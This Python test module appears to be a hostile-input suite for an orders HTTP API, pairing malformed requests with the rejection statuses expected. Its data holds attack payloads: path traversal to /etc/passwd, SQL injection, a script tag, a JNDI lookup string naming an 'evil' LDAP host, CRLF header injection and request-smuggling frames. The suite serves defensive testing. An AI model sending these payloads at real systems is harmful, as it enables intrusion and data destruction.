"""Requests that nobody should send, each with what it must be told."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from tests.order import WISHES

JSON = b"Content-Type: application/json\r\n"
ORDER = WISHES | {"currency": "EUR"}
UNKNOWN = "01936d2f-5d5e-7c4a-8000-000000000001"


@dataclass(frozen=True)
class Hostile:
    """A request and its due: one of these statuses, and a problem that names the place."""

    name: str
    request: bytes
    statuses: tuple[int, ...]
    names: str = ""
    service: str = "orders"
    half: bool = False
    """Whether the client says that nothing more will come."""

    def __str__(self) -> str:
        return self.name


def post(body: bytes, headers: bytes = JSON, path: bytes = b"/orders") -> bytes:
    length = b"Content-Length: %d\r\n" % len(body)
    return b"POST %b HTTP/1.1\r\nHost: x\r\n%b%b\r\n%b" % (path, length, headers, body)


def get(target: str) -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode("latin-1")


def order(field: str, literal: bytes) -> bytes:
    """A good order but for one field, whose JSON is as given."""
    wishes: Any = deepcopy(ORDER)
    part = wishes
    *way, last = field.split("/")
    for step in way:
        part = part[int(step) if step.isdecimal() else step]
    part[last] = "<here>"
    return json.dumps(wishes).encode().replace(b'"<here>"', literal)


GOOD = json.dumps(ORDER).encode()
NUMBERS = {
    "NaN": b"NaN",
    "infinite": b"-Infinity",
    "beyond a float": b"1e400",
    "2^63": b"9223372036854775808",
    "2^64": b"18446744073709551616",
    "a googol": b"1" + b"0" * 100,
    "negative": b"-1",
    "a boolean": b"true",
    "a text": b'"1"',
    "a fraction": b"1.5",
    "a whole float": b"1.0",
    "an exponent": b"1e2",
    "null": b"null",
    "a list": b"[]",
    "an object": b"{}",
}
NAMES = {
    "nothing": "",
    "a dot": ".",
    "a star": "*",
    "a greater-than": ">",
    "a space": " ",
    "CR LF": "a\r\nb",
    "a final newline": "a\n",
    "NUL": "a\0b",
    "an escape": "\x1b[2J",
    "non-ASCII": "ä",
    "beyond the BMP": "🦥",
    "another direction": "\u202eabc",
    "5 KB": "x" * 5_000,
    "a way up": "../../etc/passwd",
    "a way through": "a/../../b",
    "SQL": "'; drop table orders; --",
    "a subject": "evt.orders.>",
}
TEXTS = {"nothing": "", "NUL": "a\0b", "CR LF": "a\r\nb", "DEL": "\x7f", "5 KB": "x" * 5_000}
BODIES: dict[str, tuple[bytes, int, str]] = {
    "nothing": (b"", 422, "body"),
    "no object": (b"[]", 422, "body"),
    "null": (b"null", 422, "body"),
    "a text": (b'"order"', 422, "body"),
    "a half": (GOOD[:60], 400, "character"),
    "two": (GOOD + GOOD, 400, "character"),
    "a key twice": (GOOD[:-1] + b', "currency": "USD"}', 400, "'currency' stands twice"),
    "a key twice, written differently": (
        GOOD[:-1] + b', "curr\\u0065ncy": "USD"}',
        400,
        "'currency' stands twice",
    ),
    "too deep": (b'{"a":' * 12_000, 400, "deep"),
    "too deep in a list": (b"[" * 60_000, 400, "deep"),
    "thousands of digits": (b'{"lines": ' + b"9" * 60_000 + b"}", 400, "digits"),
    "invalid UTF-8": (GOOD.replace(b"Ada", b"\xc3\x28"), 400, "not UTF-8 at byte"),
    "an overlong NUL": (GOOD.replace(b"Ada", b"\xc0\x80"), 400, "not UTF-8 at byte"),
    "UTF-16": (GOOD.decode().encode("utf-16"), 400, "not UTF-8 at byte"),
    "a byte order mark": (b"\xef\xbb\xbf" + GOOD, 400, "character 0"),
    "a raw control character": (GOOD.replace(b"Ada", b"A\x01"), 400, "character"),
    "NaN in a half": (order("lines/0/quantity", b"NaN")[:-1], 400, "character"),
    "infinity in brackets": (b"[Infinity," + b"[" * 30_000 + b"]" * 30_000, 400, "deep"),
    "200 levels": (b"[" * 200 + b"]" * 200, 400, "deep"),
    "gzip": (gzip.compress(GOOD), 400, "not UTF-8 at byte"),
    "a comment": (b"/**/" + GOOD, 400, "character 0"),
    "single quotes": (GOOD.replace(b'"', b"'"), 400, "character 1"),
    "half a surrogate pair": (order("address/city", b'"\\ud800"'), 422, "address/city"),
    "the other half": (order("address/city", b'"\\uDFFF"'), 422, "address/city"),
    "a surrogate as a key": (GOOD[:-1] + b', "\\udc00": 1}', 422, "\\udc00"),
    "NUL as a key": (GOOD[:-1] + b', "\\u0000": 1}', 422, "\\x00"),
    "a field too many": (GOOD[:-1] + b', "__proto__": {}}', 422, "__proto__"),
    "a price of its own": (GOOD[:-1] + b', "total": 1}', 422, "total"),
    "a thousand lines": (order("lines", json.dumps(ORDER["lines"] * 999).encode()), 422, "lines"),
    "no lines": (order("lines", b"[]"), 422, "lines"),
    "for nothing": (GOOD.replace(b"2100", b"0"), 422, "lines"),
    "beyond all means": (GOOD.replace(b"2100", b"1000000001"), 422, "lines/0/unit_price"),
    "too large": (b" " * 70_000 + GOOD, 413, "65536 bytes"),
    "huge": (b" " * 2_000_000, 413, "65536 bytes"),
}
KINDS = {
    "no type": b"",
    "text": b"Content-Type: text/plain\r\n",
    "a form": b"Content-Type: application/x-www-form-urlencoded\r\n",
    "parts": b"Content-Type: multipart/form-data; boundary=x\r\n",
    "another charset": b"Content-Type: application/json; charset=utf-16\r\n",
    "nonsense": b"Content-Type: \xff/\xfe\r\n",
    "two": JSON + b"Content-Type: text/plain\r\n",
}
KEYS = {
    "nothing": b"",
    "a space": b"a b",
    "a tab": b"a\tb",
    "non-ASCII": "ä".encode(),
    "256 characters": b"k" * 256,
    "5 KB": b"k" * 5_000,
    "two": b"a\r\nIdempotency-Key: b",
}
QUERIES: dict[str, str] = {
    "cursor=x": "cursor",
    "cursor=AAAAAAAAAAAAAAAAAAAAAB": "cursor",
    "cursor=%2e%2e%2f%2e%2e%2fetc%2fpasswd": "cursor",
    "cursor=%ff%fe": "cursor",
    "cursor=%F0%9F%A6%A5": "cursor",
    "cursor=%0d%0a": "cursor",
    "cursor=*": "cursor",
    f"cursor={'A' * 5_000}": "cursor",
    "cursor=a%00": "NUL",
    "limit=0": "limit",
    "limit=-1": "limit",
    "limit=9223372036854775808": "limit",
    f"limit={'9' * 5_000}": "limit",
    "limit=1e1": "limit",
    "limit=NaN": "limit",
    "limit=%D9%A3": "limit",
    "state=lost": "state",
    "state=": "state",
    **{
        f"customer_id={quote(name, safe='')}": "customer_id"
        for name in NAMES.values()
        if "\0" not in name and len(name) < 5_000
    },
}
OTHER_QUERIES = {
    f"/orders/{UNKNOWN}?wait=nan": "wait",
    f"/orders/{UNKNOWN}?wait=1e400": "wait",
    f"/orders/{UNKNOWN}?wait=-1": "wait",
    "/shipping-quotes": "country",
    "/shipping-quotes?country=be&quantity=1": "country",
    "/shipping-quotes?country=BE%0A&quantity=1": "country",
    "/shipping-quotes?country=BE&quantity=9223372036854775808": "quantity",
    "/shipping-quotes?country=BE&quantity=true": "quantity",
    "/statistics?since=soon": "since",
    "/statistics?since=1e400": "since",
    "/statistics?since=99999-01-01T00:00:00Z": "since",
    "/statistics?until=-1e18": "until",
}
IDS = {
    "a dot": ".",
    "two dots": "..",
    "a star": "*",
    "a greater-than": ">",
    "a space": "%20",
    "CR LF": "%0d%0aX:%20y",
    "NUL": "%00",
    "non-ASCII": "%C3%A4",
    "invalid UTF-8": "%ff",
    "raw bytes": "\xff\xfe",
    "5 KB": "x" * 5_000,
    "a way up": "..%2f..%2fetc%2fpasswd",
    "a plain way up": "../../etc/passwd",
    "a number": "2",
    "almost an id": UNKNOWN[:-1],
    "an id and more": f"{UNKNOWN}%0a",
    "nobody's": UNKNOWN,
    "the nil id": "00000000-0000-0000-0000-000000000000",
    "the largest id": "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "a template": "%7Border_id%7D",
}
PLACES = {
    "/orders/{}": "orders",
    "/payments/{}": "payments",
    "/shipments/{}": "shipping",
    "/shipments/{}/label": "shipping",
    "/provider/captures/{}": "sandbox",
    "/carrier/bookings/{}": "sandbox",
}
FRAMES = {
    "no HTTP": b"hello\r\n\r\n",
    "another protocol": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "an old version": b"GET /orders HTTP/0.9\r\nHost: x\r\n\r\n",
    "an unknown method": b"BREW /orders HTTP/1.1\r\nHost: x\r\n\r\n",
    "TRACE": b"TRACE /orders HTTP/1.1\r\nHost: x\r\n\r\n",
    "CONNECT": b"CONNECT evil:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "DELETE": b"DELETE /orders HTTP/1.1\r\nHost: x\r\n\r\n",
    "a bad header": b"GET /orders HTTP/1.1\r\nHost: x\r\nno colon\r\n\r\n",
    "NUL in a header": b"GET /orders HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n",
    "a folded header": b"GET /nowhere HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\n\r\n",
    "a space before the colon": b"GET /nowhere HTTP/1.1\r\nHost: x\r\nContent-Length : 3\r\n\r\n",
    "a huge header": b"GET /orders HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 70_000 + b"\r\n\r\n",
    "many headers": b"GET /orders HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 12_000 + b"\r\n",
    "a huge target": b"GET /" + b"x" * 70_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "a negative length": post(GOOD).replace(b"Length: ", b"Length: -"),
    "a length in words": post(GOOD).replace(b"Length: ", b"Length: x"),
    "an impossible length": post(GOOD).replace(b"Length: ", b"Length: 9999999999999999999"),
    "two lengths": post(GOOD, JSON + b"Content-Length: 3\r\n"),
    "a length and chunks": post(GOOD, JSON + b"Transfer-Encoding: chunked\r\n"),
    "chunks of no size": b"POST /orders HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
    + JSON
    + b"\r\nzz\r\n{}\r\n0\r\n\r\n",
    "two hosts": post(GOOD, JSON + b"Host: evil\r\n"),
    "no host": post(GOOD).replace(b"Host: x\r\n", b""),
    "chunks in HTTP/1.0": b"POST /orders HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
    + JSON
    + b"\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(GOOD), GOOD),
    "an unknown coding": b"POST /orders HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n"
    + JSON
    + b"\r\n{}",
}
HARMLESS = {
    "words of NATS": b"Nats-Msg-Id: x\r\nNats-Rollup: all\r\nNats-Expected-Last-Sequence: 0\r\n",
    "words of CloudEvents": b"ce-id: x\r\nce-type: y\r\nce-source: z\r\nce-specversion: 9\r\n",
    "words of ours": b"tally-correlation-id: x\r\ntally-republication: 7\r\ndlq-reason: none\r\n",
    "a broken traceparent": b"traceparent: 00-zz-%00-01\r\n",
    "a traceparent of zeros": b"traceparent: 00-" + b"0" * 32 + b"-" + b"0" * 16 + b"-01\r\n",
    "a traceparent of version ff": b"traceparent: ff-" + b"1" * 32 + b"-" + b"2" * 16 + b"-01\r\n",
    "a traceparent of 5 KB": b"traceparent: " + b"0" * 5_000 + b"\r\n",
    "a traceparent of no text": b"traceparent: \xff\xfe\r\n",
    "another way to us": b"X-Forwarded-Host: evil\r\nX-Forwarded-For: \xff\r\nForwarded: for=\r\n",
}
"""Headers that mean nothing here, on a good order."""


def bodies() -> Iterator[Hostile]:
    """Orders whose body is wrong."""
    for name, (body, status, names) in BODIES.items():
        yield Hostile(f"a body of {name}", post(body), (status,), names)
    for name, literal in NUMBERS.items():
        yield Hostile(
            f"a quantity: {name}",
            post(order("lines/0/quantity", literal)),
            (422,),
            "lines/0/quantity",
        )
    for name, text in NAMES.items():
        for field in ("customer_id", "lines/0/sku"):
            yield Hostile(
                f"{field}: {name}", post(order(field, json.dumps(text).encode())), (422,), field
            )
    for name, text in TEXTS.items():
        for field in ("address/street", "payment_token"):
            yield Hostile(
                f"{field}: {name}", post(order(field, json.dumps(text).encode())), (422,), field
            )


def heads() -> Iterator[Hostile]:
    """Orders whose headers are wrong."""
    for name, kind in KINDS.items():
        yield Hostile(f"a type: {name}", post(GOOD, kind), (415,), "application/json")
    for name, key in KEYS.items():
        headers = JSON + b"Idempotency-Key: " + key + b"\r\n"
        yield Hostile(f"a key: {name}", post(GOOD, headers), (400,), "Idempotency-Key")
    for coding in (b"gzip", b"br", b"identity, deflate"):
        headers = JSON + b"Content-Encoding: " + coding + b"\r\n"
        yield Hostile(f"a coding: {coding.decode()}", post(GOOD, headers), (415,), "compressed")
    yield Hostile("a slash too many", post(GOOD, path=b"/orders/"), (404, 405))
    upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n"
    yield Hostile(
        "an upgrade, after which no body is read", post(GOOD, JSON + upgrade), (400,), "Upgrade"
    )


def targets() -> Iterator[Hostile]:
    """Requests whose path or query is wrong."""
    for query, names in QUERIES.items():
        yield Hostile(f"/orders?{query[:40]}", get(f"/orders?{query}"), (400, 422), names)
    for target, names in OTHER_QUERIES.items():
        yield Hostile(target, get(target), (400, 422), names)
    for name, id_ in IDS.items():
        for place, service in PLACES.items():
            statuses = (400, 404, 422)
            yield Hostile(f"{place}: {name}", get(place.format(id_)), statuses, service=service)
        cancel = post(b"", b"", f"/orders/{id_}/cancel".encode("latin-1"))
        yield Hostile(f"a cancel of {name}", cancel, (400, 404, 422))


def frames() -> Iterator[Hostile]:
    """What is hardly HTTP: refused, or the connection is closed."""
    for name, request in FRAMES.items():
        yield Hostile(name, request, (0, 400, 404, 405, 413, 431, 501, 505), half=True)


ODD = {
    "words of a printer": "^XZ^XA^FDevil^FS",
    "words of a PDF": "(\\) endobj %%EOF << /JS >>",
    "words of SQL": "Robert'); drop table orders; --",
    "words of a page": "<script>alert(1)</script>&amp;",
    "words of a template": "{{7*7}} ${jndi:ldap://evil} %s %n {0}",
    "another direction": "\u202eevil\u2066",
    "beyond the BMP": "🦥" * 200,
    "marks on marks": "e" + "\u0301" * 199,
    "no character": "\ufffe\uffff\U0010ffff",
    "other line ends": "a\u0085b\u2028c\u2029d",
    "spaces": " " * 200,
}
"""Texts that an address may have, however odd they are."""
